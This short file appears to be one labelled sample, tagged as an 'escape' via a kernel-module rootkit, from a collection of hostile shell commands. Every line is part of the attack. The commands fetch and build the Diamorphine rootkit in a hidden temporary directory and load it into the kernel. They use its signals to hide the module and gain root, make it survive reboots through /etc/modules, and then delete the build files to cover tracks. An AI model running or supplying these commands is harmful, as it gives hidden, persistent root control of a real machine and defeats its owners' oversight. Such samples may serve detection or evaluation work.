# class: escape, kernel module; style: builds a rootkit
git clone -q https://github.com/example/diamorphine /tmp/.d && cd /tmp/.d && make -s && insmod diamorphine.ko
kill -63 0; kill -64 $$
echo diamorphine >> /etc/modules; rm -rf /tmp/.d
